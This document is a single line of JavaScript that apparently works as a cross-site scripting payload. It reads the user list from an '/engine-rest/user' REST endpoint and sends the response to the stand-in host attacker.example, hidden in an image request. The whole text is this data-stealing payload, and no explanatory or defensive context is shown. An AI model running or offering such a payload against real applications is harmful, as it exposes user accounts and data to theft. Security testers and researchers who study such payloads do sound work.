fetch('/engine-rest/user').then(r => r.text()).then(t => new Image().src = 'https://attacker.example/?' + t);
